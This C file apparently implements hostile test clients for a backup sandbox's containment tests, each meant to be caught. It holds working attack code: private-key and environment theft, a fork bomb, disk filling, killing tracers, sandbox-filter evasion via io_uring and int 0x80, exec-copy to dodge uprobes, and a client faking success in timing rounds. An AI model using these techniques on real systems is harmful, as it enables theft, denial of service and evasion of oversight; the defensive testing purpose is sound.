/*
 * Hostile test clients: each is a backup client (client contract v1) that attacks the
 * *instrument*, not the workload. One source, one binary per attack (make ATTACK=name, see
 * the Makefile); tests/integration/test_containment.py runs every one of them and checks
 * that it is caught on the clause it breaks, and that none of them slips to a pass.
 *
 *   hostile-<attack> --source PATH --receiver HOST:PORT
 *
 * forbidden-calls tries each system call the sandbox's filter refuses (ptrace, keyctl, bpf,
 * perf_event_open, mount, unshare, userfaultfd, a clone into a new user namespace), then
 * backs up correctly.
 *
 * The backup itself (when an attack does one) is a correct one: hash the source, HAVE, PUT
 * on NO, retry a dropped transfer from byte 0 at most 3 times. Helper modes used by the
 * attacks themselves: --udp HOST PORT (send one datagram), --sleep-udp MS HOST PORT.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netdb.h>
#include <netinet/in.h>
#include <openssl/evp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef ATTACK
#define ATTACK "honest"
#endif
#define IS(name) (strcmp(ATTACK, name) == 0)
/* where egress attacks send: a loopback address that is not the receiver's */
#define EGRESS_HOST "127.0.0.2"
#define EGRESS_PORT 9

extern char **environ;

static void event(const char *name, const char *detail)
{
    printf("{\"event\": \"%s\", \"attack\": \"%s\", \"detail\": \"%s\"}\n", name, ATTACK, detail);
    fflush(stdout);
}

static int complete_ok(void)
{
    printf("{\"event\": \"complete\", \"status\": \"ok\"}\n");
    fflush(stdout);
    return 0;
}

static int complete_failed(const char *why)
{
    printf("{\"event\": \"complete\", \"status\": \"failed\", \"reason\": \"%s\"}\n", why);
    fflush(stdout);
    return 1;
}

/* ---- one datagram, by sendto ------------------------------------------------------- */

static int send_udp(const char *host, int port)
{
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    inet_pton(AF_INET, host, &to.sin_addr);
    const char msg[] = "telemetry";
    ssize_t n = sendto(s, msg, sizeof msg - 1, 0, (struct sockaddr *)&to, sizeof to);
    close(s);
    return n < 0 ? 3 : 0;
}

/* ---- one datagram, through io_uring (no connect, no sendto) --------------------------- */

static int send_udp_uring(const char *host, int port)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int ring = (int)syscall(__NR_io_uring_setup, 4, &p);
    if (ring < 0)
        return 3;
    size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    unsigned char *sq = mmap(0, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                             ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe),
                                     PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
                                     IORING_OFF_SQES);
    if (sq == MAP_FAILED || sqes == MAP_FAILED)
        return 3;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    inet_pton(AF_INET, host, &to.sin_addr);
    char payload[] = "telemetry via io_uring";
    struct iovec iov = {.iov_base = payload, .iov_len = sizeof payload - 1};
    struct msghdr msg = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &iov,
                         .msg_iovlen = 1};
    struct io_uring_sqe *sqe = &sqes[0];
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_SENDMSG;
    sqe->fd = fd;
    sqe->addr = (unsigned long)&msg;
    sqe->len = 1;
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
    unsigned *mask = (unsigned *)(sq + p.sq_off.ring_mask);
    unsigned *array = (unsigned *)(sq + p.sq_off.array);
    array[*tail & *mask] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    int n = (int)syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    return n < 0 ? 3 : 0;
}

/* ---- a correct backup ------------------------------------------------------------------ */

static int dial(const char *host, const char *port)
{
    struct addrinfo hints = {0}, *res = NULL;
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_STREAM;
    hints.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV;
    if (getaddrinfo(host, port, &hints, &res) != 0)
        return -1;
    int s = socket(res->ai_family, res->ai_socktype, 0);
    struct timeval tv = {20, 0};
    if (s >= 0) {
        setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
        setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
        if (connect(s, res->ai_addr, res->ai_addrlen) != 0) {
            close(s);
            s = -1;
        }
    }
    freeaddrinfo(res);
    return s;
}

static int request(const char *host, const char *port, const char *line,
                   const unsigned char *body, size_t len, char *ans, size_t anslen)
{
    int s = dial(host, port);
    if (s < 0)
        return -1;
    size_t n = strlen(line);
    if (send(s, line, n, MSG_NOSIGNAL) != (ssize_t)n) {
        close(s);
        return -1;
    }
    while (len > 0) {
        ssize_t k = send(s, body, len, MSG_NOSIGNAL);
        if (k <= 0) {
            close(s);
            return -1;
        }
        body += k;
        len -= (size_t)k;
    }
    size_t got = 0;
    while (got + 1 < anslen) {
        ssize_t k = recv(s, ans + got, 1, 0);
        if (k <= 0)
            break;
        if (ans[got++] == '\n')
            break;
    }
    ans[got] = '\0';
    close(s);
    return got > 0 ? 0 : -1;
}

static unsigned char *load(const char *path, size_t *size)
{
    FILE *f = fopen(path, "rb");
    if (f == NULL)
        return NULL;
    struct stat st;
    if (fstat(fileno(f), &st) != 0) {
        fclose(f);
        return NULL;
    }
    unsigned char *data = malloc((size_t)st.st_size + 1);
    size_t n = fread(data, 1, (size_t)st.st_size, f);
    fclose(f);
    *size = n;
    return data;
}

static int backup(const char *source, const char *receiver)
{
    char host[64], port[16];
    const char *colon = strrchr(receiver, ':');
    if (colon == NULL || (size_t)(colon - receiver) >= sizeof host)
        return complete_failed("bad --receiver");
    memcpy(host, receiver, (size_t)(colon - receiver));
    host[colon - receiver] = '\0';
    snprintf(port, sizeof port, "%s", colon + 1);
    size_t size = 0;
    unsigned char *data = load(source, &size);
    if (data == NULL)
        return complete_failed("cannot read the source");
    unsigned char md[EVP_MAX_MD_SIZE];
    unsigned mdlen = 0;
    EVP_Digest(data, size, md, &mdlen, EVP_sha256(), NULL);
    char hex[2 * EVP_MAX_MD_SIZE + 1];
    for (unsigned i = 0; i < mdlen; i++)
        snprintf(hex + 2 * i, 3, "%02x", md[i]);
    char line[256], ans[256];
    snprintf(line, sizeof line, "HAVE %s %zu\n", hex, size);
    if (request(host, port, line, NULL, 0, ans, sizeof ans) == 0 && strncmp(ans, "YES", 3) == 0)
        return complete_ok();
    snprintf(line, sizeof line, "PUT %s %zu\n", hex, size);
    for (int attempt = 0; attempt < 3; attempt++) {
        if (request(host, port, line, data, size, ans, sizeof ans) == 0 &&
            strncmp(ans, "OK", 2) == 0)
            return complete_ok();
    }
    return complete_failed("upload failed");
}

/* ---- attacks ---------------------------------------------------------------------------- */

/* Copy the source into every place the receiver's store might be. */
static void write_store(const char *source)
{
    size_t size = 0;
    unsigned char *data = load(source, &size);
    char dir[4096];
    snprintf(dir, sizeof dir, "%s", source);
    char *slash = strrchr(dir, '/');
    if (slash != NULL)
        *slash = '\0';
    const char *targets[] = {"%s/../store/backup.bin", "%s/store/backup.bin", "%s/backup.bin",
                             "/tmp/store/backup.bin"};
    for (size_t i = 0; i < sizeof targets / sizeof targets[0]; i++) {
        char path[4200];
        snprintf(path, sizeof path, targets[i], dir);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd >= 0) {
            if (data != NULL)
                (void)!write(fd, data, size);
            close(fd);
            event("wrote", path);
        } else {
            event("refused", path);
        }
    }
    /* and every lab-pass-* directory we can see */
    DIR *d = opendir("/tmp");
    struct dirent *e;
    while (d != NULL && (e = readdir(d)) != NULL) {
        if (strncmp(e->d_name, "lab-pass-", 9) == 0) {
            char path[600];
            snprintf(path, sizeof path, "/tmp/%s/store/backup.bin", e->d_name);
            int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            event(fd >= 0 ? "wrote" : "refused", path);
            if (fd >= 0)
                close(fd);
        }
    }
    if (d != NULL)
        closedir(d);
    free(data);
}

static void rewrite_source(const char *source)
{
    struct stat st;
    if (stat(source, &st) == 0 && truncate(source, st.st_size / 2) == 0) {
        event("truncated", source);
        return;
    }
    event("truncate-refused", strerror(errno));
    int fd = open(source, O_WRONLY);
    if (fd >= 0) {
        (void)!write(fd, "rewritten", 9);
        close(fd);
        event("rewrote", source);
    } else {
        event("rewrite-refused", strerror(errno));
    }
}

static void kill_tracers(void)
{
    int killed = kill(-1, SIGKILL) == 0;
    event("kill-all", killed ? "some signalled" : strerror(errno));
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d != NULL && (e = readdir(d)) != NULL) {
        char path[300], comm[64] = "";
        snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
        FILE *f = fopen(path, "r");
        if (f == NULL)
            continue;
        if (fgets(comm, sizeof comm, f) == NULL)
            comm[0] = '\0';
        fclose(f);
        comm[strcspn(comm, "\n")] = '\0';
        if (!strcmp(comm, "strace") || !strcmp(comm, "bpftrace") || !strcmp(comm, "perf") ||
            !strcmp(comm, "tcpdump") || !strcmp(comm, "python3") || !strcmp(comm, "bwrap")) {
            int r = kill(atoi(e->d_name), SIGKILL);
            event(r == 0 ? "killed" : "kill-refused", comm);
        }
    }
    if (d != NULL)
        closedir(d);
}

static void daemonize_then_send(int delay_ms)
{
    pid_t pid = fork();
    if (pid != 0) {
        if (pid > 0)
            waitpid(pid, NULL, 0); /* the intermediate child exits at once */
        return;
    }
    setsid();
    if (fork() != 0)
        _exit(0);
    /* the daemon: detached from the client's session and process group */
    for (int fd = 0; fd < 3; fd++)
        close(fd);
    struct timespec ts = {delay_ms / 1000, (long)(delay_ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
    send_udp(EGRESS_HOST, EGRESS_PORT);
    pause();
    _exit(0);
}

static void shell_child(const char *self)
{
    char cmd[4300];
    snprintf(cmd, sizeof cmd, "'%s' --udp %s %d", self, EGRESS_HOST, EGRESS_PORT);
    int r = system(cmd);
    event("shell-child", r == 0 ? "sent" : "failed");
}

static void dns_lookup(void)
{
    struct addrinfo hints = {0}, *res = NULL;
    hints.ai_socktype = SOCK_STREAM;
    int r = getaddrinfo("telemetry.example.invalid", "443", &hints, &res);
    event("dns", r == 0 ? "resolved" : gai_strerror(r));
    if (res != NULL)
        freeaddrinfo(res);
}

static void other_loopback(const char *receiver)
{
    const char *colon = strrchr(receiver, ':');
    int port = colon != NULL ? atoi(colon + 1) : 80;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    inet_pton(AF_INET, EGRESS_HOST, &to.sin_addr);
    int r = connect(s, (struct sockaddr *)&to, sizeof to);
    close(s);
    event("other-loopback", r == 0 ? "connected" : strerror(errno));
}

/* One UDP datagram through the 32-bit system call table (int 0x80, socketcall): the
 * numbers differ from the 64-bit ones, so a tracer that keys on 64-bit numbers would read
 * them as other calls, and the 32-bit ABI's pointers must lie below 4 GiB (MAP_32BIT). */
static void compat_egress(void)
{
#if defined(__x86_64__)
    unsigned char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
                              MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) {
        event("compat", strerror(errno));
        return;
    }
    unsigned int *args = (unsigned int *)low;
    struct sockaddr_in *to = (struct sockaddr_in *)(low + 64);
    char *payload = (char *)(low + 128);
    memcpy(payload, "compat\n", 7);
    to->sin_family = AF_INET;
    to->sin_port = htons(EGRESS_PORT);
    inet_pton(AF_INET, EGRESS_HOST, &to->sin_addr);
    long fd;
    args[0] = AF_INET, args[1] = SOCK_DGRAM, args[2] = 0;
    /* socketcall(SYS_SOCKET = 1, args): ia32 system call 102 */
    __asm__ volatile("int $0x80" : "=a"(fd) : "a"(102L), "b"(1L), "c"(args) : "memory");
    if (fd < 0) {
        event("compat", strerror((int)-fd));
        return;
    }
    args[0] = (unsigned int)fd, args[1] = (unsigned int)(unsigned long)payload, args[2] = 7;
    args[3] = 0, args[4] = (unsigned int)(unsigned long)to, args[5] = sizeof *to;
    long sent;
    /* socketcall(SYS_SENDTO = 11, args) */
    __asm__ volatile("int $0x80" : "=a"(sent) : "a"(102L), "b"(11L), "c"(args) : "memory");
    close((int)fd);
    event("compat", sent == 7 ? "sent" : strerror((int)-sent));
#else
    event("compat", "not an x86_64 build");
#endif
}

static void fork_bomb(void)
{
    long made = 0;
    for (;;) {
        pid_t pid = fork();
        if (pid == 0) {
            pause();
            _exit(0);
        }
        if (pid < 0)
            break;
        if (++made >= 100000)
            break;
    }
    char n[32];
    snprintf(n, sizeof n, "%ld", made);
    event("forked", n);
}

static void flood(void)
{
    for (long i = 0; i < 2000000; i++)
        printf("{\"event\": \"progress\", \"n\": %ld}\n", i);
    fflush(stdout);
}

/* Everything that could be the lab's signing key: the environment, the file the
 * environment names, and any file that looks like a key under /. */
static int scan_file(const char *path)
{
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOFOLLOW);
    if (fd < 0)
        return 0;
    struct stat st;
    if (fstat(fd, &st) != 0 || !S_ISREG(st.st_mode) || st.st_size > 65536) {
        close(fd);
        return 0;
    }
    char buf[65537];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = '\0';
    if (strstr(buf, "secret key") || strstr(buf, "PRIVATE KEY")) {
        printf("{\"event\": \"stolen\", \"path\": \"%s\", \"bytes\": %zd}\n", path, n);
        fwrite(buf, 1, (size_t)n, stdout);
        return 1;
    }
    return 0;
}

static int walk(const char *dir, int depth, int *budget)
{
    if (depth > 8 || *budget <= 0)
        return 0;
    if (!strncmp(dir, "/proc", 5) || !strncmp(dir, "/sys", 4) || !strncmp(dir, "/dev", 4))
        return 0;
    DIR *d = opendir(dir);
    if (d == NULL)
        return 0;
    int found = 0;
    struct dirent *e;
    while ((e = readdir(d)) != NULL && (*budget)-- > 0) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
            continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", strcmp(dir, "/") ? dir : "", e->d_name);
        struct stat st;
        if (lstat(path, &st) != 0)
            continue;
        if (S_ISDIR(st.st_mode))
            found += walk(path, depth + 1, budget);
        else if (S_ISREG(st.st_mode))
            found += scan_file(path);
    }
    closedir(d);
    return found;
}

static void steal_key(void)
{
    for (char **e = environ; *e != NULL; e++)
        printf("{\"event\": \"env\", \"value\": \"%s\"}\n", *e);
    const char *named = getenv("LAB_SIGNING_KEY");
    if (named != NULL)
        printf("{\"event\": \"stolen\", \"env\": \"LAB_SIGNING_KEY\", \"value\": \"%s\"}\n",
               named);
    int budget = 200000;
    int found = walk("/", 0, &budget);
    char n[32];
    snprintf(n, sizeof n, "%d", found);
    event("key-files-found", n);
}


/* ---- round 4: the box's disk, the host's processes, the timing rounds, a copy ---------- */

/* 3,000 nested directories left in HOME (a recursive remover runs out of stack). */
static void deep_tree(void)
{
    const char *home = getenv("HOME");
    if (home == NULL || chdir(home) != 0)
        return;
    int made = 0;
    for (; made < 3000; made++)
        if (mkdir("d", 0700) != 0 || chdir("d") != 0)
            break;
    char n[32];
    snprintf(n, sizeof n, "%d", made);
    event("deep-tree", n);
}

/* Zeros into a directory until the file system refuses, each chunk synced and dropped
 * from the page cache (so that a memory limit alone would not stop it). */
static long long fill(const char *dir, const char *name)
{
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd < 0)
        return 0;
    static char chunk[1 << 20];
    long long total = 0;
    for (int i = 0; i < 8192; i++) { /* at most 8 GiB */
        ssize_t n = write(fd, chunk, sizeof chunk);
        if (n <= 0)
            break;
        total += n;
        fdatasync(fd);
        posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
    }
    close(fd);
    return total;
}

static void disk_filler(void)
{
    const char *dirs[2] = {getenv("TMPDIR"), getenv("HOME")};
    for (int i = 0; i < 2; i++) {
        if (dirs[i] == NULL)
            continue;
        long long wrote = fill(dirs[i], "zeros");
        printf("{\"event\": \"filled\", \"dir\": \"%s\", \"bytes\": %lld, \"errno\": %d}\n",
               dirs[i], wrote, errno);
        fflush(stdout);
    }
}

/* Every process this client can see, and any command line that names a path of the lab. */
static void proc_walker(void)
{
    DIR *d = opendir("/proc");
    if (d == NULL)
        return;
    int seen = 0;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        seen++;
        char path[300], cmd[4096];
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            continue;
        ssize_t n = read(fd, cmd, sizeof cmd - 1);
        close(fd);
        if (n <= 0)
            continue;
        for (ssize_t i = 0; i < n; i++)
            if (cmd[i] == '\0' || cmd[i] == '"' || cmd[i] == '\\' || (unsigned char)cmd[i] < 32)
                cmd[i] = ' ';
        cmd[n] = '\0';
        printf("{\"event\": \"process\", \"pid\": %s, \"cmdline\": \"%s\"}\n", e->d_name, cmd);
    }
    closedir(d);
    char n[32];
    snprintf(n, sizeof n, "%d", seen);
    event("processes-seen", n);
}

/* Honest in a judged pass; in what looks like a timing round, "done" at once, no backup. */
static int looks_timed(void)
{
    char buf[4096];
    int fd = open("/proc/self/cgroup", O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = '\0';
    return strstr(buf, "timing") != NULL;
}

/* The uprobes' function: hashes the source (the copy calls it 256 times). */
__attribute__((noinline)) int hash_file(const char *path, unsigned char *md, unsigned *len)
{
    size_t size = 0;
    unsigned char *data = load(path, &size);
    if (data == NULL)
        return -1;
    EVP_Digest(data, size, md, len, EVP_sha256(), NULL);
    free(data);
    return 0;
}

/* Copy this executable into $TMPDIR and exec the copy, which hashes 256 times: a uprobe
 * attached to the box's inode never sees the copy. */
static void exec_copy(char **argv, const char *source)
{
    const char *tmp = getenv("TMPDIR");
    if (getenv("HOSTILE_COPY") != NULL) {
        unsigned char md[EVP_MAX_MD_SIZE];
        unsigned len = 0;
        for (int i = 0; i < 256; i++)
            hash_file(source, md, &len);
        event("hashed", "256");
        return;
    }
    if (tmp == NULL)
        return;
    char copy[4096];
    snprintf(copy, sizeof copy, "%s/client-copy", tmp);
    int in = open("/proc/self/exe", O_RDONLY);
    int out = open(copy, O_WRONLY | O_CREAT | O_TRUNC, 0700);
    if (in < 0 || out < 0)
        return;
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, (size_t)n) != n)
            return;
    close(in);
    close(out);
    setenv("HOSTILE_COPY", "1", 1);
    fflush(stdout);
    execv(copy, argv);
}

/* A completion whose note holds U+2028 and U+0085 and ends in CR LF, after one line with a
 * raw form feed (not JSON: one unparsed line, never two). */
static int odd_separators(const char *source, const char *receiver)
{
    int rc = backup(source, receiver);
    printf("{\"event\": \"odd\", \"detail\": \"x\fy\"}\n");
    printf("{\"event\": \"complete\", \"status\": \"%s\", \"note\": \"a\xe2\x80\xa8"
           "b\xc2\x85"
           "c\"}\r\n",
           rc == 0 ? "ok" : "failed\", \"reason\": \"upload failed");
    fflush(stdout);
    return rc;
}

/* Each call a backup client never needs, made once (harmless arguments): each must be
 * refused by the sandbox's filter (EPERM), the refusal seen by the kernel's audit log. The
 * client's own report of each result is an event; the lab judges from the kernel's record. */
static void forbidden_calls(void)
{
    static const struct {
        const char *name;
        long nr;
        long a, b, c;
    } calls[] = {
        {"ptrace", SYS_ptrace, 0 /* PTRACE_TRACEME */, 0, 0},
        {"keyctl", SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0},
        {"bpf", SYS_bpf, 0 /* BPF_MAP_CREATE */, 0, 0},
        {"perf_event_open", SYS_perf_event_open, 0, 0, -1},
        {"mount", SYS_mount, 0, 0, 0},
        {"unshare", SYS_unshare, 0x10000000 /* CLONE_NEWUSER */, 0, 0},
        {"userfaultfd", SYS_userfaultfd, 0, 0, 0},
    };
    for (size_t i = 0; i < sizeof calls / sizeof calls[0]; i++) {
        errno = 0;
        long rc = syscall(calls[i].nr, calls[i].a, calls[i].b, calls[i].c, 0L, 0L);
        char detail[96];
        snprintf(detail, sizeof detail, "%s returned %ld (%s)", calls[i].name, rc,
                 rc < 0 ? strerror(errno) : "allowed");
        event("forbidden-call", detail);
    }
    /* a new user namespace through clone rather than unshare (a child, if it were allowed,
     * leaves at once) */
    errno = 0;
    long child = syscall(SYS_clone, (long)(CLONE_NEWUSER | SIGCHLD), 0L, 0L, 0L, 0L);
    if (child == 0)
        _exit(0);
    if (child > 0)
        waitpid((pid_t)child, NULL, 0);
    char made[96];
    snprintf(made, sizeof made, "clone returned %ld (%s)", child > 0 ? 0L : child,
             child < 0 ? strerror(errno) : "allowed");
    event("forbidden-call", made);
#if defined(__x86_64__)
    /* mount again through the 32-bit table (int 0x80, where it is number 21): a filter of
     * the 64-bit numbers alone would let it through */
    long rc32;
    __asm__ volatile("int $0x80" : "=a"(rc32) : "a"(21L), "b"(0L), "c"(0L), "d"(0L) : "memory");
    char detail[96];
    snprintf(detail, sizeof detail, "mount (int 0x80) returned %ld", rc32);
    event("forbidden-call-32", detail);
#endif
}

int main(int argc, char **argv)
{
    if (argc == 4 && !strcmp(argv[1], "--udp"))
        return send_udp(argv[2], atoi(argv[3]));
    const char *source = NULL, *receiver = NULL;
    for (int i = 1; i + 1 < argc; i += 2) {
        if (!strcmp(argv[i], "--source"))
            source = argv[i + 1];
        else if (!strcmp(argv[i], "--receiver"))
            receiver = argv[i + 1];
    }
    if (source == NULL || receiver == NULL) {
        fprintf(stderr, "usage: %s --source PATH --receiver HOST:PORT\n", argv[0]);
        return 2;
    }
    printf("{\"event\": \"start\", \"client\": \"hostile-%s\", \"contract_version\": 1}\n",
           ATTACK);
    fflush(stdout);
    if (IS("store-writer")) {
        write_store(source);
        return complete_ok();
    }
    if (IS("source-rewriter"))
        rewrite_source(source);
    if (IS("tracer-killer")) {
        kill_tracers();
        send_udp(EGRESS_HOST, EGRESS_PORT);
    }
    if (IS("uring-egress"))
        event("uring", send_udp_uring(EGRESS_HOST, EGRESS_PORT) == 0 ? "sent" : "failed");
    if (IS("shell-child"))
        shell_child(argv[0]);
    if (IS("daemon-fast"))
        daemonize_then_send(200);
    if (IS("daemon-slow"))
        daemonize_then_send(30000);
    if (IS("dns"))
        dns_lookup();
    if (IS("other-loopback"))
        other_loopback(receiver);
    if (IS("compat-egress"))
        compat_egress();
    if (IS("key-thief"))
        steal_key();
    if (IS("hang")) {
        complete_ok();
        for (;;)
            pause();
    }
    if (IS("flood")) {
        flood();
        return complete_ok();
    }
    if (IS("fork-bomb")) {
        fork_bomb();
        return complete_ok();
    }
    if (IS("deep-tree"))
        deep_tree();
    if (IS("disk-filler"))
        disk_filler();
    if (IS("proc-walker"))
        proc_walker();
    if (IS("timing-cheat") && looks_timed())
        return complete_ok();
    if (IS("exec-copy"))
        exec_copy(argv, source);
    if (IS("forbidden-calls"))
        forbidden_calls();
    if (IS("odd-separators"))
        return odd_separators(source, receiver);
    return backup(source, receiver);
}
